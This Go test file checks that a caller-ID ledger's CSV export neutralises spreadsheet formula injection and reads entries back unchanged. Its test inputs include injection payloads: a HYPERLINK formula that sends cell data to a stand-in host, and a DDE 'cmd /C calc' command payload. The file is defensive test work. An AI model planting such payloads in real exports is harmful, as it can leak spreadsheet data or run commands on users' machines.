package callerid

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"github.com/dialgate/dialgate"
)

// hostileText are holder, access and qualification texts a spreadsheet would
// run as formulas (CSV injection), texts that already start with the
// apostrophe spreadsheets read as "text", and numbers, which are data.
var hostileText = []string{
	`=HYPERLINK("http://example.invalid/?x="&A1,"Acme")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"'=already quoted",
	"''+twice",
	"'Acme Ltd",
	"'",
	"+8613800138000",
	"-12",
	"=",
}

// plainNumberRE matches the numbers a spreadsheet reads as numbers, never
// as formulas (E.164 numbers, negative counts).
var plainNumberRE = regexp.MustCompile(`^[+-][0-9]+(\.[0-9]+)?$`)

// startsFormula reports whether a spreadsheet opening cell would read it as
// a formula (OWASP: =, +, -, @, tab, carriage return), a plain number aside.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumberRE.MatchString(cell)
}

// TestWriteLedgerCSVNeutralisesFormulas: a ledger exported for an auditor
// opens in a spreadsheet with every holder, access and qualification shown
// as text — a cell starting with =, +, -, @ gets a leading apostrophe —
// while the numbers stay as they are (E.164, +861058001234); and the file
// reads back (ledger import) as exactly the entries written, an apostrophe
// the text itself starts with included.
func TestWriteLedgerCSVNeutralisesFormulas(t *testing.T) {
	numbers := []string{"+861058001234", "+862158001234", "+861058001235", "+862158001235", "+861058001236",
		"+862158001236", "+861058001237", "+862158001237", "+861058001238", "+862158001238", "+861058001239"}
	var es []Entry
	for i, h := range hostileText {
		es = append(es, Entry{Tenant: "acme", Number: dialgate.MustParseNumber(numbers[i]), Type: TypeFixed,
			Holder: h, Access: hostileText[(i+1)%len(hostileText)], Qualification: hostileText[(i+2)%len(hostileText)],
			Purposes: []dialgate.Purpose{dialgate.PurposeService}})
	}
	var buf bytes.Buffer
	if err := WriteLedgerCSV(&buf, es); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	cr := csv.NewReader(strings.NewReader(raw))
	cr.Comment = '#' // the note of the first line
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		if row[0] != numbers[i] {
			t.Errorf("row %d: number cell %q, want %q as it is", i+1, row[0], numbers[i])
		}
		for c, cell := range row {
			if startsFormula(cell) {
				t.Errorf("row %d, column %s: cell %q starts a formula", i+1, ledgerColumns[c], cell)
			}
		}
		if want := map[string]string{"+8613800138000": "+8613800138000", "-12": "-12"}[es[i].Holder]; want != "" && row[2] != want {
			t.Errorf("row %d: holder cell %q, want the number %q as it is", i+1, row[2], want)
		}
	}
	if !strings.Contains(raw, `'=HYPERLINK(`) || !strings.Contains(raw, "''=already quoted") {
		t.Errorf("formulas not neutralised:\n%s", raw)
	}
	back, err := ParseLedger(strings.NewReader(raw), "acme")
	if err != nil {
		t.Fatalf("re-read: %v\n%s", err, raw)
	}
	if len(back) != len(es) {
		t.Fatalf("re-read %d entries, want %d", len(back), len(es))
	}
	for i := range es {
		if diff := es[i].ChangedFields(back[i]); diff != nil {
			t.Errorf("entry %d re-read with another %v: holder %q → %q, access %q → %q, qualification %q → %q", i, diff,
				es[i].Holder, back[i].Holder, es[i].Access, back[i].Access, es[i].Qualification, back[i].Qualification)
		}
	}
}

// FuzzLedgerCSVFormulaRoundTrip: whatever holder, access and qualification
// an entry has, WriteLedgerCSV writes no cell that starts a formula in
// those columns, and ParseLedger reads the entry back unchanged.
func FuzzLedgerCSVFormulaRoundTrip(f *testing.F) {
	for i, h := range hostileText {
		f.Add(h, hostileText[(i+1)%len(hostileText)], hostileText[(i+2)%len(hostileText)])
	}
	f.Add("Acme", "", "")
	f.Fuzz(func(t *testing.T, holder, access, qual string) {
		for _, s := range []string{holder, access, qual} {
			if strings.TrimSpace(s) != s {
				// ParseLedger trims each CSV cell: text with leading or
				// trailing spaces does not read back as written (a
				// limitation of the CSV form; JSON lines keep it).
				t.Skip()
			}
		}
		e, err := Entry{Tenant: "t", Number: dialgate.MustParseNumber("+861058001234"), Holder: holder, Access: access,
			Qualification: qual, Purposes: []dialgate.Purpose{dialgate.PurposeService}}.Normalize()
		if err != nil {
			t.Skip()
		}
		var buf bytes.Buffer
		if err := WriteLedgerCSV(&buf, []Entry{e}); err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(buf.Bytes()))
		cr.Comment = '#' // the note of the first line
		rows, err := cr.ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%v, %d rows\n%s", err, len(rows), buf.String())
		}
		for _, c := range []int{2, 3, 4} {
			if cell := rows[1][c]; startsFormula(cell) {
				t.Fatalf("column %s: cell %q starts a formula", ledgerColumns[c], cell)
			}
		}
		back, err := ParseLedger(&buf, "t")
		if err != nil {
			t.Fatalf("re-read: %v", err)
		}
		if len(back) != 1 {
			t.Fatalf("re-read %d entries", len(back))
		}
		if diff := e.ChangedFields(back[0]); diff != nil {
			t.Fatalf("re-read with another %v: %q/%q/%q → %q/%q/%q", diff, holder, access, qual,
				back[0].Holder, back[0].Access, back[0].Qualification)
		}
	})
}
